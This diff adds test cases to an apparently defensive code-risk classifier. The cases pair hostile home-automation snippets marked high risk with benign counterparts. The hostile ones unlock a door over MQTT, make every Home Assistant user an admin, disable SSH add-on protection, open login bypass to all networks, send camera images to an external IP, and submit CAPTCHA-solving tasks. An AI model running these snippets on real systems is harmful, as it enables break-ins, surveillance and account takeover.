@@ -17135,6 +17135,86 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    fh.write(data)\n',
             H,
         ),
+        # Round 102: home automation hubs, camera proxies, captcha balance checks
+        (
+            'import json\n'
+            'import paho.mqtt.client as mqtt\n'
+            'c = mqtt.Client()\n'
+            'c.connect("192.168.1.20")\n'
+            'c.publish("zigbee2mqtt/front_door_lock/set", json.dumps({"state": "UNLOCK"}))\n',
+            H,
+        ),
+        (
+            'import json\n'
+            'import paho.mqtt.client as mqtt\n'
+            'c = mqtt.Client()\n'
+            'c.connect("192.168.1.20")\n'
+            'c.publish("zigbee2mqtt/hall_light/set", json.dumps({"state": "ON"}))\n',
+            S,
+        ),
+        (
+            'import json\n'
+            'p = "/config/.storage/auth"\n'
+            'd = json.load(open(p))\n'
+            'for u in d["data"]["users"]:\n'
+            '    u["group_ids"] = ["system-admin"]\n'
+            'json.dump(d, open(p, "w"))\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'H = {}\n'
+            'requests.post("http://supervisor/addons/a0d7b954_ssh/security", json={"protected": False}, heade'
+            'rs=H)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'flows = [{"id": "n1", "type": "mqtt in", "topic": "site/run", "wires": [["n2"]]},\n'
+            '         {"id": "n2", "type": "exec", "command": "", "addpay": "payload"}]\n'
+            'requests.post("http://127.0.0.1:1880/flows", json=flows)\n',
+            H,
+        ),
+        (
+            'cfg = """homeassistant:\n'
+            '  auth_providers:\n'
+            '    - type: trusted_networks\n'
+            '      trusted_networks:\n'
+            '        - 0.0.0.0/0\n'
+            '      allow_bypass_login: true\n'
+            '"""\n'
+            'open("/config/configuration.yaml", "a").write(cfg)\n',
+            H,
+        ),
+        (
+            'cfg = """homeassistant:\n'
+            '  auth_providers:\n'
+            '    - type: trusted_networks\n'
+            '      trusted_networks:\n'
+            '        - 192.168.1.0/24\n'
+            '"""\n'
+            'open("/config/configuration.yaml", "a").write(cfg)\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'for st in requests.get(f"{HA}/api/states").json():\n'
+            '    img = requests.get(f"{HA}/api/camera_proxy/{st[\'entity_id\']}").content\n'
+            '    requests.post("https://198.51.100.14/u", files={"f": img})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'r = requests.post("https://api.2captcha.com/getBalance", json={"clientKey": os.environ["K"]})\n'
+            'print("solver balance:", r.json().get("balance"))\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'r = requests.post("https://api.2captcha.com/createTask", json={"clientKey": os.environ["K"], "ta'
+            'sk": {"type": "RecaptchaV2TaskProxyless", "websiteKey": k}})\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
